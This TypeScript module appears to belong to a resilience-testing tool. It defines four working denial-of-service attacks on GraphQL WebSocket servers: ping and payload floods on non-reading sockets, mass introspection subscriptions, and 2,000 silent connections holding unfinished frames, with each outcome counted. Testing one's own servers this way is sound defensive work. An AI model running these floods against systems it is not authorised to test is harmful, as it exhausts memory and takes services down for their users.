import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

import { getIntrospectionQuery } from 'graphql';
import type WebSocket from 'ws';

import type { Attack } from './attack.js';
import { closeOf, openSocket } from './open-socket.js';
import type { Attacking } from './send.js';

/** Runs `abuse` on 18 connections that read nothing, again and again. */
async function abuseSockets(
  { target, bounds, outcomes }: Attacking,
  abuse: (socket: WebSocket) => void,
): Promise<void> {
  const abuseOne = async () => {
    while (!bounds.signal.aborted) {
      const socket = await openSocket(target, bounds);
      if (socket === null) {
        await sleep(20);
        continue;
      }
      const closed = closeOf(socket);
      socket.pause();
      abuse(socket);
      // A paused client does not see the close frame; the server ends the connection anyway.
      await Promise.race([closed, sleep(3_000)]);
      socket.resume();
      const how = await Promise.race([closed, sleep(3_000).then(() => 'stays open')]);
      outcomes.count(how);
      socket.terminate();
    }
  };
  await Promise.all(Array.from({ length: 18 }, abuseOne));
}

/** An upgrade by hand; the peer sends and answers nothing after it. */
function silentConnection({ target, bounds, outcomes }: Attacking): Promise<void> {
  const { hostname, port, host } = new URL(target.url);
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port) });
    const abort = () => socket.destroy();
    bounds.signal.addEventListener('abort', abort, { once: true });
    // A socket that reads nothing does not notice its end, nor keep the process alive.
    socket.on('error', () => undefined).resume();
    socket.once('connect', () => {
      socket.write(
        `GET /graphql HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n` +
          'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n',
      );
      // Most of a frame that never ends.
      socket.write(
        Buffer.concat([Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 4, 0, 0, 1, 2, 3, 4]), Buffer.alloc(250_000)]),
      );
    });
    socket.once('close', () => {
      bounds.signal.removeEventListener('abort', abort);
      outcomes.count(bounds.signal.aborted ? 'open at the end' : 'disconnected');
      resolve();
    });
  });
}

/** Attacks on the memory that WebSockets take. */
export const socketAttacks: readonly Attack[] = [
  {
    name: 'socket-pings',
    about: '10,000 pings on each of 18 WebSockets that read nothing, again and again',
    run: (target, bounds, outcomes) =>
      abuseSockets({ target, bounds, outcomes }, (socket) => {
        for (let i = 0; i < 10_000; i++) socket.ping('x'.repeat(125));
      }),
  },
  {
    name: 'socket-pongs',
    about: '500 pings of graphql-transport-ws with 250 KB each on 18 WebSockets that read nothing, again and again',
    run: (target, bounds, outcomes) => {
      const ping = JSON.stringify({ type: 'ping', payload: { text: 'x'.repeat(250_000) } });
      return abuseSockets({ target, bounds, outcomes }, (socket) => {
        for (let i = 0; i < 500; i++) socket.send(ping);
      });
    },
  },
  {
    name: 'socket-results',
    about: '900 results of 400 KB on each of 18 WebSockets that read nothing, again and again',
    run: (target, bounds, outcomes) => {
      const payload = { query: getIntrospectionQuery() };
      return abuseSockets({ target, bounds, outcomes }, (socket) => {
        for (let i = 0; i < 900; i++) socket.send(JSON.stringify({ id: String(i), type: 'subscribe', payload }));
      });
    },
  },
  {
    name: 'socket-silence',
    about: '2,000 WebSockets without connection_init that ignore the close frame, again and again',
    run: async (target, bounds, outcomes) => {
      const open = async () => {
        while (!bounds.signal.aborted) await silentConnection({ target, bounds, outcomes });
      };
      await Promise.all(Array.from({ length: 2_000 }, open));
    },
  },
];
